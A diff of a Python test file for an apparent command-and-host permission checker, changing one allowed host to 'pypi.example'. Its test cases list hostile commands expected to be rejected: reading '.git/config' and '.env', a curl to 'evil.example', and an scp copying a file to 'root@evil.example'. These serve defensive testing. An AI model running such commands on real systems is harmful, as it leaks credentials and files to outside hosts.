@@ -151,7 +151,7 @@ DENY = Deny(
     hosts=("*",),
     rules=("delete",),
 )
-ALLOW = Allow(hosts=("pypi.org", "*.python.org"), rules=("read", "execute:pytest*"))
+ALLOW = Allow(hosts=("pypi.example", "*.python.org"), rules=("read", "execute:pytest*"))
 
 
 def _request(cwd: Path, kind: Any, raw: Any = None, path: str | None = None) -> PermissionRequest:
@@ -185,7 +185,7 @@ def test_rules_decide_by_paths_commands_and_hosts(tmp_path: Path) -> None:
         ("execute", {"command": "cat '.git/config'"}, None, "reject"),
         ("execute", {"command": "cat <.env"}, None, "reject"),
         ("execute", {"command": "curl https://evil.example/x"}, None, "reject"),
-        ("execute", {"command": "curl https://user@pypi.org:443/x"}, None, None),
+        ("execute", {"command": "curl https://user@pypi.example:443/x"}, None, None),
         ("execute", {"command": "scp a root@evil.example:/x"}, None, "reject"),
         ("fetch", {"url": "https://docs.python.org/3/"}, None, None),
         ("fetch", {"url": "HTTPS://EVIL.example"}, None, "reject"),
